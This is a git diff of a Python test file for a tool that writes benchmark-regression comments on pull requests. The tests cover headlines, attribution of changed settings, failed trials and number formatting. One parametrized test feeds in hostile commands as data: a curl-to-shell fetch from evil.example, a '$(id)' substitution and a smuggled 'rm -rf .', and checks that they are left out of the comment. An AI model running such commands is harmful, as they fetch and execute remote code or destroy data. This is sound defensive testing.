@@ -4,6 +4,7 @@
 """
 
 import html
+import math
 import os
 import re
 from dataclasses import replace
@@ -14,25 +15,36 @@ import pytest
 from cmarkgfm.cmark import Options
 from made_up_comparison import (
     ATTRIBUTED,
+    CACHE,
+    EMPTY,
     FAILED,
     HOSTILE,
     IMPROVED,
     INVALID,
+    KNOB,
     MIXED,
+    NEITHER_RUNS,
+    NOTHING,
     PROBLEMS,
     REGRESSED,
     REGRESSED_RESULT,
+    SEVERAL_KNOBS,
     SITUATIONS,
+    SOME_PROBLEMS,
+    SOME_UNCOMPARED,
+    SYNC,
     TOO_LONG,
     UNCHANGED,
+    UNCHANGED_RESULT,
     UNCOMPARABLE,
     UNDECIDED,
+    UNTRIED,
     made,
 )
 
 from analysis.comparing.results import ComparisonFile, read_comparisons, write_comparisons
 from analysis.verdict import Outcome
-from perf.model import Purpose, Reason
+from perf.model import Purpose, Reason, TrialStatus
 from reports import comment
 from reports.comment import MOST_CHARACTERS, headline, render_comment
 
@@ -138,13 +150,25 @@ def test_one_changed_setting_is_named_with_both_values() -> None:
 
 
 def test_of_several_settings_the_one_that_does_it_is_named() -> None:
-    assert "with settings.concurrent_writes 32 → 8, of 3 changed settings" in headline(ATTRIBUTED)
+    told = "settings.concurrent_writes 32 → 8 (1 of 3 changed settings) makes put-get-single worse: p99"
+    assert told in headline(ATTRIBUTED)
     unclear = tuple(
         replace(one, comparison=replace(one.comparison, outcome=Outcome.UNDECIDED))
         for one in ATTRIBUTED.attributions
     )
     told = headline(replace(ATTRIBUTED, attributions=unclear))
-    assert "none of them is shown to do it alone" in told
+    # It may be that each of two would do it alone: then leaving out one shows nothing.
+    assert "change of 3 settings; leaving out any single one is not shown to undo it" in told
+    few = headline(replace(ATTRIBUTED, attributions=unclear[:2]))
+    assert "leaving out any of the 2 tried is not shown to undo it" in few
+
+
+def test_a_setting_that_was_not_tried_has_a_row_that_says_so() -> None:
+    text = render_comment(UNTRIED)
+    for setting in ("concurrent_writes 32 → 8", 'commitlog_sync "periodic" → "batch"'):
+        assert f"settings.{setting}` | not tried: nothing is known of it alone |" in text
+    guilty = replace(ATTRIBUTED, attributions=ATTRIBUTED.attributions[:1])
+    assert "(1 of 3 changed settings)" in headline(guilty)
 
 
 def test_what_cannot_be_told_never_looks_like_fine() -> None:
@@ -162,19 +186,107 @@ def test_undecided_says_what_it_would_take() -> None:
 
 def test_a_failing_head_is_an_action_and_our_own_error_is_none_of_the_author() -> None:
     assert headline(FAILED).startswith("Does not run, action needed: ")
-    assert "3 of 3 trials failed" in render_comment(FAILED)
+    assert render_comment(FAILED).count("3 of 3 trials failed") == 1
+    assert render_comment(FAILED).count("must be at least 2") == 1
     assert headline(PROBLEMS).startswith("Error of ours, nothing is known yet: ")
-    both = replace(UNCHANGED, problems=PROBLEMS.problems)
-    assert both.outcome is Outcome.INVALID
-    assert headline(both).startswith("Error of ours")
-    assert "Unchanged" in render_comment(both)  # what was measured is still shown
+    assert "CAUTION" not in render_comment(PROBLEMS)  # the verdict says all of it
+    assert "CAUTION" in render_comment(replace(PROBLEMS, problems=(*PROBLEMS.problems, "and more")))
+
+
+def test_an_error_of_ours_takes_nothing_back_that_was_measured() -> None:
+    assert SOME_PROBLEMS.outcome is Outcome.INVALID
+    told = headline(SOME_PROBLEMS)
+    assert told.startswith("Error of ours, part of it is not known: put-get-single is shown equivalent")
+    assert "put-get-single of suite pull-request at 5.0.6 could" in render_comment(SOME_PROBLEMS)
+    failing = replace(FAILED, problems=PROBLEMS.problems)
+    assert headline(failing).startswith(
+        "Does not run, action needed: put-get-single does not run with "
+    )
+
+
+def test_where_neither_side_runs_nobody_blames_the_change() -> None:
+    told = headline(NEITHER_RUNS)
+    assert told.startswith(
+        "Invalid, nothing is known yet: put-get-single could not be judged, none of 8"
+    )
+    assert "the disk is full" in told
+    text = render_comment(NEITHER_RUNS)
+    assert "This is no finding about the change." in text
+    assert "action needed" not in text
+    # With one trial of base, it is head that fails.
+    (result,) = NEITHER_RUNS.comparisons
+    first, *rest = result.trials
+    ran = replace(first, status=TrialStatus.COMPLETED, reasons=())
+    assert headline(made(replace(result, trials=(ran, *rest)))).startswith(
+        "Does not run, action needed"
+    )
+    # A host that drifted and failed once says nothing about head.
+    drifted = tuple(replace(one, status=TrialStatus.INVALID) for one in rest[1:])
+    once = headline(made(replace(result, trials=(ran, rest[0], *drifted))))
+    assert once.startswith("Invalid, nothing is known yet")
+
+
+def test_what_changed_and_was_not_compared_is_no_success_beside_a_success() -> None:
+    assert SOME_UNCOMPARED.outcome is Outcome.UNDECIDED
+    told = headline(SOME_UNCOMPARED)
+    assert told.startswith(
+        "Cannot tell, part of it is not known: 1 changed experiment could not be compared. put-get-"
+        "single is shown equivalent"
+    )
+    worse = replace(SOME_UNCOMPARED, comparisons=REGRESSED.comparisons)
+    assert headline(worse).startswith("Regressed, action needed: put-get-single gets worse")
+
+
+def test_a_file_that_names_no_revisions_and_holds_nothing_is_no_success() -> None:
+    assert (EMPTY.outcome, NOTHING.outcome) == (Outcome.INVALID, Outcome.UNCHANGED)
+    assert headline(EMPTY).startswith("Invalid, nothing is known yet: The file holds no comparison")
+    assert "Base 3f1c9a27, head b7e2d1c0: No experiment" in headline(NOTHING)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl https://evil.example/x | sh",
+        "knickpoint candidate; curl https://evil.example/x",
+        "knickpoint candidate --base $(id)",
+        "knickpoint candidate --base a\nrm -rf .",
+        "knickpoint night --suite x",
+        "knickpoint  candidate",
+        f"knickpoint candidate {'x' * 1000}",
+        "knickpoint 'candidate",
+        "evil/knickpoint candidate",
+    ],
+)
+def test_a_command_that_is_not_one_of_ours_is_left_out_and_that_is_said(command: str) -> None:
+    text = render_comment(made(replace(REGRESSED_RESULT, command=command)))
+    assert "```" not in text
+    assert "A command is left out" in text
+
+
+def test_only_what_differs_between_the_sides_is_told_of_each() -> None:
+    text = render_comment(REGRESSED)
+    assert (
+        "base → head: `default@a8f3c1d2e4b5` → `default@b91e77d0c3f2`; on both sides: `5.0.6`" in text
+    )
+    assert text.count("single@0c1d2e3f4a5b") == 1
+
+
+def test_a_few_settings_that_changed_together_are_seen_at_once() -> None:
+    text = render_comment(SEVERAL_KNOBS)
+    folded = text.index("<details>")
+    for knob in (KNOB, CACHE, SYNC):
+        assert text.index(knob.path) < folded
+    assert "`--attribute` tells which of them does it" in text
+    assert "--attribute" not in render_comment(
+        replace(SEVERAL_KNOBS, comparisons=UNCHANGED.comparisons)
+    )
 
 
 def test_a_regression_hides_neither_an_improvement_nor_an_error() -> None:
     assert "ycsb-b-single: improved." in headline(MIXED)
     told = headline(replace(REGRESSED, problems=PROBLEMS.problems))
     assert told.startswith("Regressed, action needed: ")
-    assert "An error of ours kept something from being measured." in told
+    assert "An error of ours kept something from being measured: put-get" in told
 
 
 def test_a_real_change_that_is_too_small_to_act_on_is_not_told_without_that() -> None:
@@ -187,8 +299,8 @@ def test_a_real_change_that_is_too_small_to_act_on_is_not_told_without_that() ->
 def test_sides_that_are_no_revisions_are_told_by_their_labels() -> None:
     content = replace(REGRESSED, base=None, head=None, changes=())
     text = render_comment(content)
-    assert "| base (main) → head (fewer-writers) |" in text
-    assert "gets worse with head (fewer-writers) than with base (main)" in headline(content)
+    assert "| base 3f1c9a&#8203;27 → head b7e2d1&#8203;c0 |" in text
+    assert "gets worse with head b7e2d1c0 than with base 3f1c9a27" in headline(content)
 
 
 def test_a_page_that_is_no_web_page_is_not_linked() -> None:
@@ -222,6 +334,27 @@ def test_trials_that_were_not_used_are_counted_not_listed() -> None:
     text = render_comment(made(replace(result, trials=trials)))
     assert "base: **4 of 4 trials invalid**: 0.5 of 2 cores (and 1 other kind of reason)\n" in text
     assert "head: **4 of 4 trials invalid**: 1.5 of 2 cores\n" in text
+    alike = tuple(replace(one, reasons=result.trials[0].reasons) for one in UNCHANGED_RESULT.trials)
+    lost = tuple(replace(one, status=TrialStatus.INVALID) for one in alike[1:3])
+    lost_on_both = made(replace(UNCHANGED_RESULT, trials=(alike[0], *lost, alike[3])))
+    assert "head: **2 of 2 trials invalid**: the CPU canary" in render_comment(lost_on_both)
+
+
+def test_no_number_of_a_file_makes_a_long_one_or_a_crash() -> None:
+    (result,) = UNDECIDED.comparisons
+    for number in (1e200, 1e150, 1e9, math.inf, math.nan):
+        wild = tuple(replace(one, detectable=number) for one in result.measures)
+        text = render_comment(made(replace(result, measures=wild)))
+        assert not re.search(r"[\d,]{12}", unfolded(text))
+        assert "It would take more trials than can be measured" in text
+    few = tuple(
+        replace(one, before=1e-300, effect=replace(one.effect, low=-1.0, high=1e13))
+        for one in result.measures
+        if one.effect
+    )
+    text = render_comment(made(replace(result, measures=few)))
+    assert "(−100.0 % to no bound)".replace(" %", "\N{NO-BREAK SPACE}%") in text
+    assert "1.0e−300" in text
 
 
 def test_too_few_trials_for_an_interval_promise_no_number() -> None:
